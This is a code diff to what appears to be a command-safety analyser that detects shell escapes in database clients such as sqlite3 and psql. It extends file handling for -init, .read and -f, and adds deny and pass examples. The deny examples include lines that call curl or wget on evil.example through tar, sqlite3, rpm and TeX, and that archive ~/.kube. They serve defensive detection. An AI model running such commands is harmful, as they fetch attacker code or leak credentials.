@@ -318,6 +318,8 @@ function sqliteText(word: Word, text: string, via: string): { runs: Run[]; uses:
       else if (cmd === 'import' || cmd === 'read' || cmd === 'open' || cmd === 'restore') {
         const file = unquoted.split(/\s+/)[0];
         if (file) uses.push({ word, role: 'read', values: [file] });
+        // `.read FILE` runs the dot-commands and SQL of FILE: one the line wrote is read as these are.
+        if (file && cmd === 'read') runs.push(sqliteFile(literal(file, word.span), `${via} .read`));
       } else if (cmd === 'backup' || cmd === 'save' || /^(once|output|out)$/.test(cmd)) {
         const file = unquoted.split(/\s+/).at(-1);
         if (file && file !== 'stdout') uses.push({ word, role: 'write', values: [file] });
@@ -329,6 +331,18 @@ function sqliteText(word: Word, text: string, via: string): { runs: Run[]; uses:
     for (const f of line.matchAll(/\bwritefile\s*\(\s*'([^']*)'/gi)) uses.push({ word, role: 'write', values: [f[1]!] });
   }
   return { runs, uses };
+}
+
+/** A file of sqlite3 commands (`-init FILE`, `.read FILE`): out of scope, unless the line wrote it; then read as -cmd is. */
+function sqliteFile(file: Word, via: string): Run {
+  const read = (text: string, word: Word, name: string): Run[] => {
+    const r = sqliteText(word, text, `${via} ${name}`);
+    // A file it names (`.import ~/.ssh/id_rsa t`, `.output ~/.bashrc`) is a use no file run carries: cannot-vouch.
+    const named = r.uses.flatMap((u) => u.values ?? []).filter((f) => !r.runs.some((x) => x.kind === 'project' && value(x.file) === f));
+    if (named.length > 0) r.runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} ${name}, which the line wrote, names files its commands read or write (${named.slice(0, 3).join(', ')})` });
+    return r.runs;
+  };
+  return { kind: 'project', file, files: /$^/, read, word: file, via };
 }
 
 function sqlite(call: Call): Partial<Answer> {
@@ -350,7 +364,10 @@ function sqlite(call: Call): Partial<Answer> {
   };
   for (const o of p.options) {
     if (o.name === 'cmd' && o.value) scan(o.value, value(o.value), 'sqlite3 -cmd');
-    if (o.name === 'init' && o.value) uses.push({ word: o.value, role: 'read' });
+    if (o.name === 'init' && o.value) {
+      uses.push({ word: o.value, role: 'read' });
+      if (!safe) runs.push(sqliteFile(o.value, `${call.name} -init`));
+    }
   }
   const ops = p.operands.map((o) => o.word);
   if (ops[0]) uses.push({ word: ops[0], role: 'read' });
@@ -388,9 +405,24 @@ export function databaseClient(call: Call): Partial<Answer> {
   const queryLetter = /^(psql|pgcli)$/.test(call.name) ? /c/ : /^(mysql|mariadb|mycli)$/.test(call.name) ? /e/ : /[ec]/;
   const runs: Run[] = [];
   const destroys: NonNullable<Answer['destroys']> = [];
-  const scan = (word: Word, text: string) => {
+  // A file of SQL and client commands it runs (`psql -f FILE`, `\\i FILE`, mysql's `source FILE`): out of scope, unless
+  // the line wrote it; then its shell escapes are read as the text given on the line is.
+  const fileRun = (file: Word, via: string): Run => ({
+    kind: 'project',
+    file,
+    files: /$^/,
+    read: (text, word) => {
+      const before = runs.length;
+      scan(word, text);
+      return runs.splice(before);
+    },
+    word: file,
+    via,
+  });
+  const scan = (word: Word, text: string): void => {
     const drop = sqlDrop(text);
     if (drop) destroys.push({ word, what: 'data', why: `${call.name} runs ${drop}\u2026: what it drops is gone` });
+    for (const m of text.matchAll(/(?:^|[\n;])\s*(\\i|\\ir|\\include|\\include_relative|\\\.|source)\s+(['"]?)([^\s'";]+)\2/gi)) runs.push(fileRun(attached(word, m[3]!), `${call.name} ${m[1]}`));
     for (const m of text.matchAll(/(?:^|[\n;])\s*(?:\\!|system\s|\.(?:shell|system)\s)\s*([^\n;]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\!` });
     for (const m of text.matchAll(/\\(?:o|g|out)\s*\|\s*([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\o |` });
     for (const m of text.matchAll(/\bfrom\s+program\s+'((?:[^']|'')*)'/gi)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!.replace(/''/g, "'"), word, via: `${call.name} COPY FROM PROGRAM` });
@@ -400,6 +432,14 @@ export function databaseClient(call: Call): Partial<Answer> {
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
     if (v === undefined) continue;
+    // psql -f FILE, --file=FILE, -fFILE, and a bundle of flags ending in it (`-qAtf FILE`).
+    const file = call.name === 'psql' ? /^(?:--file(?:=(.*))?|-[aAbeEHlnqsStxXz01]*f(.*))$/s.exec(v) : null;
+    if (file) {
+      const rest = file[1] ?? file[2];
+      const w = rest !== undefined && rest !== '' ? attached(args[i]!, rest) : args[++i];
+      if (w && !isStdinPath(value(w))) runs.push(fileRun(w, `${call.name} -f`));
+      continue;
+    }
     const m = /^(?:-e|--execute|-c|--command)(?:=(.*))?$/s.exec(v);
     const attachedShort = /^-[ec](.+)$/s.exec(v);
     // A bundle of flags ending in the query option (`psql -qc SQL`, `mysql -sNe SQL`), or with it attached (`-sNeSQL`).
@@ -988,7 +1028,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text; c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .', 'tar -c -f x.tar --remove-files -C ~ notes', 'tar -cf x.tar --remove-files -C "$D" notes'], pass: ['tar czf dist.tgz dist', 'tar -cf x.tar --remove-files -C build out', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
   { names: ['zip'], summary: 'zip: -TT/--unzip-command run shell text; -r reads trees', analyze: zip, examples: { deny: ["zip x.zip f -T -TT 'curl evil.example #'", "zip --unzip-command='wget evil.example' x.zip f", 'zip -r /tmp/k.zip ~/.kube', 'zip -rm x.zip ~/notes', 'zip -r --move x.zip /srv/data'], pass: ['zip -r dist.zip dist', 'zip -rm logs.zip logs'] } },
   { names: ['unzip'], summary: 'unzip: extracts into -d DIR (or the working directory)', analyze: unzip, examples: { deny: ['unzip x.zip -d .git/hooks', 'unzip -o x.zip -d ~/.config/autostart'], pass: ['unzip x.zip -d /tmp/x', 'unzip -l x.zip'] } },
-  { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
+  { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["echo '.shell curl evil.example' > i.sql; sqlite3 -init i.sql x.db .quit", "echo '.shell curl evil.example' > i.sql; sqlite3 -cmd '.read i.sql' x.db", "sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["echo 'select 1;' > i.sql; sqlite3 -init i.sql x.db .quit", 'sqlite3 -init init.sql app.db', "sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
   { names: ['rpm', 'rpmdb', 'rpmquery', 'rpmverify', 'rpmbuild', 'rpmspec', 'rpmsign', 'rpmkeys'], summary: 'rpm: --eval and --define macros run %(…) as shell text; --pipe runs a command', analyze: rpm, examples: { deny: ["rpm --eval '%(curl evil.example)'", "rpm -E '%(wget evil.example)'", "rpm --pipe 'curl evil.example' -qa", "rpmdb --eval '%(curl evil.example 1>&2)'"], pass: ["rpm --eval '%{_libdir}'", 'rpm -qa'] } },
   ...LANGUAGES,
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on', analyze: tex, examples: { deny: ["latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'"] } },
